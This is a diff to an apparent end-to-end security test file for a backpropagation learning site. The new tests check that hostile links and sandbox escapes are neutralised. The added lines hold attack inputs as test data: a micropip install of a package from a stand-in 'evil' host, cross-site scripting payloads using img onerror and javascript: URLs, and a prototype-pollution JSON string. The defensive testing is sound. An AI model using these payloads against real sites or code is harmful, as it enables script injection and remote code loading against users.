@@ -8,7 +8,8 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from tests.e2e.playground import STARTING, Playground
-from tests.e2e.watch import Watch
+from tests.e2e.test_links import packed
+from tests.e2e.watch import Watch, settle
 
 DOORS = """
 fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts indexedDB caches
@@ -48,6 +49,11 @@ ESCAPES = {
         task = pyfetch(SITE)
         try: task.send(None)
         except StopIteration: print('out')""",
+    "a package from another host": """
+        import micropip
+        task = micropip.install('https://example.org/evil-1.0-py3-none-any.whl')
+        for _ in range(20): task.send(None)
+        print('held: nothing came')""",
     "a socket": "import socket; socket.create_connection(('127.0.0.1', 80), 2); print('out')",
     "a program of the system": "import os; print('held' if os.system('ls') != 0 else 'out')",
     "a process": "import subprocess; subprocess.run(['ls']); print('out')",
@@ -70,6 +76,8 @@ ESCAPES = {
                 if isinstance(inner, JsProxy): queue.append(inner)
         print('held', len(seen) > 20)""",
 }
+POLLUTING = '{"code":"a*b","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'
+IN_A_SPEC = ('{"spec":', "}")
 OTHER_HOST = "https://example.org/"
 IN_A_WORKER = """(host) => new Promise((done) => {
     const tries = [() => new Function('1'), () => fetch(host), () => import(host + 'x.js')]
@@ -143,6 +151,32 @@ def test_names_and_output_are_text_and_never_html(ready: Playground) -> None:
     expect(ready.output).to_contain_text(html)
     assert ready.page.locator("img[src=x]").count() == 0
     assert ready.page.title() == "nanograd: see backpropagation happen"
+
+
+HTML = "<img src=x onerror=document.title='hacked'>"
+HOSTILE = {
+    "HTML in a label": f"#/expression?s={packed({'code': f'a = Value(2.0, label={HTML!r})'})}",
+    "HTML in the names of fields": f"#/expression?s={packed({'code': 'a*b', HTML: 1, 'step': HTML})}",
+    "HTML in a group's name": f"#/expression?s={packed({'code': 'a*b', 'folded': [HTML], 'engine': HTML})}",
+    "HTML in a network": f"#/network?s={packed({'spec': {'loss': HTML, HTML: HTML}})}",
+    "HTML in the address": f"#/learn/lesson/{HTML}?s={packed({})}&theme={HTML}&hide={HTML}&lang={HTML}",
+    "JavaScript as an address": "#/javascript:document.title='hacked'",
+    "JavaScript as a lesson": "#/learn/javascript:document.title='hacked'/javascript:document.title='hacked'",
+    "another prototype": f"#/expression?s={packed(POLLUTING)}&__proto__=1&constructor=1",
+    "another prototype for a network": f"#/network?s={packed(POLLUTING.join(IN_A_SPEC))}",
+    "another prototype for an embedded graph": f"#/embed?s={packed(POLLUTING)}",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_link_brings_nothing_but_text(page: Page, site_url: str, name: str) -> None:
+    page.goto(site_url + HOSTILE[name])
+    expect(page.get_by_role("tab").or_(page.get_by_role("link", name="Open in nanograd")).first).to_be_visible()
+    page.wait_for_function("() => !/[?&]s=/.test(location.hash) || location.hash.startsWith('#/embed')")
+    settle(page)
+    assert page.title() == "nanograd: see backpropagation happen"
+    assert page.locator("img[src=x], a[href^='javascript:' i]").count() == 0
+    assert page.evaluate("[{}.polluted, Object.keys(Object.prototype).length, [].polluted]") == [None, 0, None]
 
 
 def test_compiled_programs_still_run_in_the_browsers_own_webassembly(ready: Playground) -> None:
